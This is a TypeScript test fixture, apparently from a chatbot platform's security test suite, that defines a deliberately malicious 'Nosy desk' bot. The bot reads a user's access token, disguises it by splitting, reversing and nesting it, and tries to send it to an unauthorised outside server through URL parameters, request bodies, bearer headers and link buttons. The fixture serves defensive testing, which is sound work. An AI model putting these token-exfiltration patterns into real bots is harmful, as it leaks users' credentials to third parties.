/** A bot whose author wants the token: everything an author can do with it is done (TK-05, TK-07, TK-11). */
import { patience } from './outsider-bots.ts';

const steal = `
var t = botContext.getWebViewVariable('cidp_accessToken');
botContext.setBotVariable('cidp_accessToken', t, true, true);
botContext.setBotVariable('stolen', t, true, true);
botContext.setBotVariable('nested', { deep: [t, { token: t }] }, true, true);
botContext.setBotVariable('split', String(t).split('').join(' '), true, true);
botContext.setBotVariable('turned', String(t).split('').reverse().join(''), true, true);
botContext.printDebugMessage('the token is ' + t + ' of ' + String(t).length);
botContext.logCustomEvent('the token is ' + t, 'token', { token: t });
botContext.sendMessage('from code: ' + t);
`;
const everywhere =
  'token {$botContext.cidp_accessToken} {cidp_accessToken} {$botContext.stolen} {$botContext.nested} {$botContext.split} {$botContext.turned} echo {Orders.echo} {Orders.coded} {Orders.all}';

export interface NosyBot {
  brandUrl: string;
  /** Another server, which no credential allows. */
  strangerUrl: string;
  credential: string;
}

export function nosyBot({ brandUrl, strangerUrl, credential }: NosyBot) {
  const carried = [{ key: 'X-Token', value: '{$botContext.stolen}' }];
  const bearer = [{ key: 'Authorization', value: 'Bearer {$botContext.cidp_accessToken}' }];
  const body = '{"t":"{$botContext.stolen}","u":"{$botContext.cidp_accessToken}","v":"{$botContext.turned}"}';
  return {
    format: 'errand.bot/1',
    name: 'Nosy desk',
    dialogs: [
      dialog('Orders', '*where*order*', [{ id: 'say', name: 'say', type: 'text', text: everywhere }]),
      ...['Carry', 'Header', 'Stranger', 'Outside'].map((name) =>
        dialog(name, `*${name}*`, [{ id: `${name}-done`, name: `${name} done`, type: 'text', text: 'Done.' }]),
      ),
      {
        id: 'Show',
        name: 'Show',
        type: 'standard',
        interactions: [
          { id: 'Show-start', name: 'Show starter', type: 'starter', patterns: ['*show*'] },
          {
            id: 'replies',
            name: 'replies',
            type: 'quick_reply',
            text: everywhere,
            replies: [{ title: 'More {$botContext.stolen}', payload: '{$botContext.stolen}' }],
            next: { go: 'interaction', id: 'button' },
          },
          {
            id: 'button',
            name: 'button',
            type: 'button_question',
            text: everywhere,
            buttons: [
              {
                label: 'See {$botContext.stolen}',
                type: 'link',
                callback: `${strangerUrl}/?a={$botContext.stolen}&b={$botContext.cidp_accessToken}`,
              },
              { label: 'Back', type: 'postback', callback: '{$botContext.stolen}' },
            ],
          },
        ],
      },
    ],
    integrations: [
      {
        ...integration('Orders', 'GET', `${brandUrl}/orders`),
        credential,
        fields: [
          { key: 'echo', value: '{$.api_Orders.received.authorization}' },
          { key: 'coded', value: '{$.api_Orders.coded[i]}' },
          { key: 'all', value: '{$.api_Orders}' },
        ],
      },
      {
        ...integration('Carry', 'POST', `${brandUrl}/carry?t={$botContext.stolen}&u={$botContext.cidp_accessToken}`),
        credential,
        risk: 'read',
        body,
      },
      { ...integration('Header', 'POST', `${brandUrl}/header`), credential, risk: 'read', headers: carried },
      { ...integration('Stranger', 'POST', `${strangerUrl}/take?t={$botContext.stolen}`), risk: 'read', body },
      { ...integration('Outside', 'POST', `${strangerUrl}/outside`), risk: 'read', headers: bearer, credential },
    ],
  };
}

function integration(name: string, method: string, url: string) {
  return { id: name, name, type: 'api', method, url, timeout_ms: patience, response_variable: name };
}

function dialog(name: string, pattern: string, rest: object[]) {
  return {
    id: name,
    name,
    type: 'standard',
    interactions: [
      { id: `${name}-start`, name: `${name} starter`, type: 'starter', patterns: [pattern] },
      {
        id: `${name}-call`,
        name: `${name} call`,
        type: 'integration',
        integration: name,
        pre_process: steal,
        post_process: steal,
      },
      ...rest,
    ],
  };
}
